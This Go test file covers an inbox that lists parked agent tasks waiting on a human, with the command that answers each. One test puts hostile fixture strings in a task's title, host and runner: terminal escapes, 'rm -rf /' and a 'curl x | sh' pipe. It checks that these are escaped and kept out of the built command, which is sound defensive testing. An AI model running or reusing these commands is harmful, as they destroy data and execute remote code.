package inbox

import (
	"context"
	"errors"
	"strings"
	"testing"
	"time"

	"github.com/lazyorch/lazy/machine"
	"github.com/lazyorch/lazy/memstore"
	"github.com/lazyorch/lazy/notify"
	"github.com/lazyorch/lazy/task"
)

// The tests run on the task store in memory, with PATH emptied so that
// any git process the inbox would start fails them.

type fixture struct {
	t     *testing.T
	store *memstore.Store
	now   time.Time
}

func newFixture(t *testing.T) *fixture {
	t.Helper()
	t.Setenv("PATH", t.TempDir())
	f := &fixture{t: t, now: time.Date(2026, 12, 7, 8, 0, 0, 0, time.UTC)}
	f.store = memstore.New(memstore.WithHost("laptop"), memstore.WithClock(func() time.Time { return f.now }))
	return f
}

// park creates a task, runs one turn of kind on host and parks it as
// status, applying edit to the parked snapshot; the clock moves on a
// minute after.
func (f *fixture) park(slug string, status machine.Status, kind string, edit func(sn *task.Snapshot)) string {
	f.t.Helper()
	return f.parkAs(task.CreateSpec{Title: "task " + slug, Slug: slug, Actor: machine.Human}, status, kind, edit)
}

// parkAs is park for the task spec creates.
func (f *fixture) parkAs(spec task.CreateSpec, status machine.Status, kind string, edit func(sn *task.Snapshot)) string {
	f.t.Helper()
	sn, err := f.store.Create(spec)
	if err != nil {
		f.t.Fatal(err)
	}
	id := sn.Task.ID
	f.update(id, func(sn *task.Snapshot) *task.Op {
		sn.Task.Status = machine.Working
		sn.Task.Host = "runner-host"
		sn.Task.Sessions++
		q := sn.AddTurn(task.Turn{Role: task.RoleHuman, Kind: kind, Content: "go", At: f.now})
		sn.Session = &task.Session{ID: "s1", Number: 1, Host: "runner-host", Turn: q.Seq, TurnKind: kind, StartedAt: f.now}
		return &task.Op{Name: "start", Actor: machine.Human}
	})
	f.update(id, func(sn *task.Snapshot) *task.Op {
		sn.AddTurn(task.Turn{Role: task.RoleAgent, Content: "done", At: f.now})
		sn.Task.Status = status
		if edit != nil {
			edit(sn)
		}
		return &task.Op{Name: "park", Actor: machine.Supervisor}
	})
	f.now = f.now.Add(time.Minute)
	return id
}

func (f *fixture) update(id string, fn func(sn *task.Snapshot) *task.Op) {
	f.t.Helper()
	if _, _, err := f.store.Update(context.Background(), id, func(sn *task.Snapshot) (*task.Op, error) { return fn(sn), nil }); err != nil {
		f.t.Fatal(err)
	}
}

func (f *fixture) service(protected map[string][]string) *Service {
	return &Service{Store: f.store, Now: func() time.Time { return f.now },
		Policy: notify.Policy{BreakerAt: 3},
		Protected: func(_ context.Context, sn *task.Snapshot) ([]string, error) {
			return protected[sn.Task.Slug], nil
		}}
}

func (f *fixture) list(s *Service) *Result {
	f.t.Helper()
	r, err := s.List(context.Background())
	if err != nil {
		f.t.Fatal(err)
	}
	return r
}

// TestEveryKindWithItsCommandOldestFirst: each state that waits on a
// human is one item with the one command that answers it, oldest first;
// what waits on nobody is not listed.
func TestEveryKindWithItsCommandOldestFirst(t *testing.T) {
	f := newFixture(t)
	f.park("review-me", machine.Blocked, "start", nil)
	f.park("asked-one", machine.Blocked, "ask", nil)
	f.park("outside", machine.Conflict, "start", func(sn *task.Snapshot) { sn.Violations.Pending = []string{"go.sum"} })
	f.park("gate-red", machine.Blocked, "start", func(sn *task.Snapshot) {
		sn.Task.Gate = &task.GateRecord{Runs: []task.GateRun{{ID: "r1", At: f.now, Failed: "make test"}}}
	})
	f.park("spent", machine.Blocked, "start", func(sn *task.Snapshot) {
		// The hold began before the park was recorded: since is the hold's.
		sn.Task.Hold = &task.Hold{Kind: task.HoldBudget, At: f.now.Add(-time.Hour), Scope: "task", LimitUSD: 1, SpentUSD: 1.5}
	})
	f.park("spent-day", machine.Blocked, "start", func(sn *task.Snapshot) {
		sn.Task.Hold = &task.Hold{Kind: task.HoldBudget, At: f.now, Scope: "day", LimitUSD: 1, SpentUSD: 1.5}
	})
	f.park("crashed", machine.Interrupted, "start", func(sn *task.Snapshot) { sn.Session.ConsecutiveInterruptions = 3 })
	f.park("touches-gate", machine.Blocked, "start", nil)
	// Waiting on nobody: a usage limit the daemon waits out, an
	// interruption lazy resumes by itself, a backlog task, a finished one.
	f.park("limited", machine.Blocked, "start", func(sn *task.Snapshot) {
		sn.Task.Hold = &task.Hold{Kind: task.HoldLimit, At: f.now, Until: f.now.Add(time.Hour)}
	})
	f.park("resumes", machine.Interrupted, "start", func(sn *task.Snapshot) { sn.Session.ConsecutiveInterruptions = 1 })
	if _, err := f.store.Create(task.CreateSpec{Title: "later", Actor: machine.Human}); err != nil {
		t.Fatal(err)
	}
	f.park("landed", machine.Blocked, "start", nil)
	f.update(mustResolve(t, f.store, "landed"), func(sn *task.Snapshot) *task.Op {
		sn.Task.Status, sn.Task.Outcome = machine.Abandoned, "closed"
		return &task.Op{Name: "close", Actor: machine.Human}
	})

	r := f.list(f.service(map[string][]string{"touches-gate": {"Makefile"}}))
	want := []struct {
		slug    string
		kind    Kind
		command string
	}{
		{"spent", OverBudget, "lazy unblock spent --budget +N"},
		{"review-me", Blocked, "lazy accept review-me"},
		{"asked-one", Asked, "lazy unblock asked-one -m TEXT"},
		{"outside", Conflict, "lazy unblock outside --approve-file PATH"},
		{"gate-red", GateFailed, "lazy unblock gate-red -m TEXT"},
		{"spent-day", OverBudget, "lazy config lazy.budget.day N"},
		{"crashed", Interrupted, "lazy resume crashed"},
		{"touches-gate", Protected, "lazy accept touches-gate --approve-protected"},
	}
	if len(r.Items) != len(want) {
		t.Fatalf("the inbox has %d items, want %d: %+v", len(r.Items), len(want), r.Items)
	}
	for i, w := range want {
		it := r.Items[i]
		if it.Slug != w.slug || it.Kind != w.kind || it.Command != w.command {
			t.Errorf("item %d = %s %s %q, want %s %s %q", i, it.Slug, it.Kind, it.Command, w.slug, w.kind, w.command)
		}
		if it.Host != "runner-host" || it.Why == "" {
			t.Errorf("item %s: host %q, why %q: want the record's host and a reason", it.Slug, it.Host, it.Why)
		}
		if i > 0 && it.Since.Before(r.Items[i-1].Since) {
			t.Errorf("item %s waits since %s, before the item above it (%s): not oldest first", it.Slug, it.Since, r.Items[i-1].Since)
		}
	}
	if got := r.Items[0].WaitingSeconds; got != int64(f.now.Sub(r.Items[0].Since)/time.Second) || got < 3600 {
		t.Errorf("spent has waited %ds, want since its hold (over an hour)", got)
	}
	if p := r.Items[len(r.Items)-1]; len(p.Files) != 1 || p.Files[0] != "Makefile" {
		t.Errorf("the protected item names files %q, want [Makefile]", p.Files)
	}
}

// TestAnAskWithoutAnAnswerSaysSo: the answer is the agent's turn after
// the question; an ask that ended with an error says it could not answer.
func TestAnAskWithoutAnAnswerSaysSo(t *testing.T) {
	f := newFixture(t)
	id := f.park("asked", machine.Blocked, "ask", nil)
	f.update(id, func(sn *task.Snapshot) *task.Op {
		sn.EditTurns(func(tu *task.Turn) bool {
			if tu.Role == task.RoleAgent {
				tu.Error = "the agent crashed"
				return true
			}
			return false
		})
		return &task.Op{Name: "edit", Actor: machine.System}
	})
	r := f.list(f.service(nil))
	if len(r.Items) != 1 || !strings.Contains(r.Items[0].Why, "could not answer") {
		t.Fatalf("items = %+v, want one asked item that says it could not answer", r.Items)
	}
}

// TestWhatARemoteWritesIsCleanedAndNeverTheCommand: a record pulled from
// another clone names a hostile host, runner and title (terminal
// escapes, a newline, a second command) and a time in the future; the
// inbox shows them escaped on one line, the wait is never negative, and
// the command is built from the validated slug alone.
func TestWhatARemoteWritesIsCleanedAndNeverTheCommand(t *testing.T) {
	f := newFixture(t)
	now := f.now
	f.now = now.Add(48 * time.Hour) // the other clone's clock
	f.park("hostile", machine.Blocked, "start", func(sn *task.Snapshot) {
		sn.Task.Title = "fix it\x1b]0;pwned\x07\nrm -rf / #"
		sn.Task.Host = "evil\x1b[2J; curl x | sh"
		sn.Task.Pool = &task.PoolSpec{Runner: "r\x1b[31m1\nlazy accept other", MarkedAt: f.now}
	})
	f.now = now
	r := f.list(f.service(nil))
	if len(r.Items) != 1 {
		t.Fatalf("items = %+v, want one", r.Items)
	}
	it := r.Items[0]
	for name, v := range map[string]string{"title": it.Title, "host": it.Host, "runner": it.Runner, "where": it.Where()} {
		if strings.ContainsAny(v, "\x1b\x07\n\r") {
			t.Errorf("the %s %q reaches a surface with a control character", name, v)
		}
	}
	if it.Command != "lazy accept hostile" {
		t.Errorf("command = %q, want lazy accept hostile", it.Command)
	}
	if it.WaitingSeconds != 0 || it.Since.After(f.now) {
		t.Errorf("a record from the future waits %ds since %s; want 0s, since now at the latest", it.WaitingSeconds, it.Since)
	}
}

// TestAFailedProtectedCheckKeepsTheItem: when the protected paths
// cannot be checked the task is still listed, as what it is, and says so.
func TestAFailedProtectedCheckKeepsTheItem(t *testing.T) {
	f := newFixture(t)
	f.park("fine", machine.Blocked, "start", nil)
	f.park("broken", machine.Blocked, "start", nil)
	s := f.service(nil)
	s.Protected = func(_ context.Context, sn *task.Snapshot) ([]string, error) {
		if sn.Task.Slug == "broken" {
			return nil, errors.New("read the gate: bad config")
		}
		return nil, nil
	}
	r := f.list(s)
	if len(r.Items) != 2 || r.Items[1].Slug != "broken" || r.Items[1].Command != "lazy accept broken" ||
		!strings.Contains(r.Items[1].Why, "could not be checked: read the gate: bad config") || strings.Contains(r.Items[0].Why, "could not") {
		t.Fatalf("result = %+v, want both listed, broken saying its check failed", r)
	}
}

func TestWait(t *testing.T) {
	for in, want := range map[int64]string{0: "0s", 59: "59s", 60: "1m", 3599: "59m", 3600 + 5*60: "1h05m", 2*86400 + 4*3600: "2d4h"} {
		if got := Wait(in); got != want {
			t.Errorf("Wait(%d) = %q, want %q", in, got, want)
		}
	}
}

func mustResolve(t *testing.T, s *memstore.Store, slug string) string {
	t.Helper()
	id, err := s.Resolve(slug)
	if err != nil {
		t.Fatal(err)
	}
	return id
}
